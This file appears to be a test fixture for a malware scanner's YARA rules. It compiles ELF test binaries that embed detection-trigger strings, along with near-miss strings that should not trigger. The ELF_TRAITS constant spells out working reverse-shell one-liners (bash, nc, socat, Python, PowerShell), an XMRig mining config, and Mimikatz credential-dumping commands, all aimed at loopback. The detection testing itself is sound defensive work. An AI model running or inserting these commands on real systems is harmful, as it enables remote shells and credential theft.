// Real Linux executables compiled at test time by gcc and cached: one holding, as a C program would,
// each trait the shipped YARA rules look for in an ELF (a miner's pool URL and embedded XMRig config,
// reverse-shell commands it hands to system(), Mimikatz commands a C2 server sends), and one holding
// only near misses (words and paths those traits are made of, none of them a trait).
import { readFile, writeFile } from "node:fs/promises";
import path from "node:path";
import { runTool } from "../../../support/run-tool.js";
import { cachedTestBuild, oncePerProcess } from "../../../support/test-cache.js";

const cString = (s: string) => JSON.stringify(s);

/** Each ELF-relevant shipped pattern, as a string constant of a C program (loopback addresses only). */
export const ELF_TRAITS = {
  $stratum: "stratum+tcp://127.0.0.1:3333",
  $xmrig1:
    '{"api": {"id": null}, "donate-level": 1, "randomx": {"init": -1}, "pools": [{"url": "127.0.0.1:3333"}]}',
  $bash: "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1",
  $nc: "nc -e /bin/sh 127.0.0.1 4444",
  $socat: "socat tcp:127.0.0.1:4444 exec:'bash -li',pty,stderr",
  $python:
    'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("127.0.0.1",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")\'',
  $pwsh: "pwsh -c \"$c=New-Object Net.Sockets.TCPClient('127.0.0.1',4444);$s=$c.GetStream();iex $d\"",
  $mk1: "sekurlsa::logonpasswords",
  $mk5: "privilege::debug",
} as const;

/** The same words with the traits broken: no shipped rule may fire on it. */
export const ELF_NEAR_MISSES = [
  "the stratum protocol; stratum+tcp:// needs a host",
  '{"pools": [], "donate-level": 0}',
  "bash can open /dev/tcp/HOST/PORT",
  "nc -l 4444; exec /bin/sh",
  "socat - tcp:127.0.0.1:4444",
  "s=socket.socket(); s.connect((host, port))",
  "New-Object Net.Sockets.TCPClient",
  "sekurlsa module; see privilege escalation",
];

const program = (strings: readonly string[]) =>
  `#include <stdio.h>
static const char *const traits[] = { ${strings.map(cString).join(",\n  ")} };
int main(int argc, char **argv) { (void)argv; return puts(traits[argc % ${strings.length}]) < 0; }
`;

// the traits again beside tens of KiB of machine code, as in a real program: YARA reads an ELF's
// strings, not its code (elfStringRanges), and must still find each trait where it is in the file
const bigCode = (strings: readonly string[]) =>
  `${program(strings)}
int mix(volatile int *v) {
${Array.from({ length: 3000 }, (_, i) => `  v[${i % 61}] = v[${(i * 7) % 61}] * ${i + 3} + v[${(i * 13) % 61}];`).join("\n")}
  return v[0];
}
`;

export interface ElfThreats {
  traits: Buffer;
  nearMisses: Buffer;
  /** the traits in a program with tens of KiB of code */
  traitsBigCode: Buffer;
}

async function load(dir: string): Promise<ElfThreats | undefined> {
  try {
    return {
      traits: await readFile(path.join(dir, "traits")),
      nearMisses: await readFile(path.join(dir, "near-misses")),
      traitsBigCode: await readFile(path.join(dir, "traits-big-code")),
    };
  } catch {
    return undefined;
  }
}

export const elfThreatBinaries = oncePerProcess(() =>
  cachedTestBuild("elf-threats-v2", load, async (work) => {
    const sources = {
      traits: program(Object.values(ELF_TRAITS)),
      "near-misses": program(ELF_NEAR_MISSES),
      "traits-big-code": bigCode(Object.values(ELF_TRAITS)),
    };
    for (const [name, source] of Object.entries(sources)) {
      await writeFile(path.join(work, `${name}.c`), source);
      await runTool("gcc", ["-O1", "-o", name, `${name}.c`], { cwd: work });
    }
  }),
);
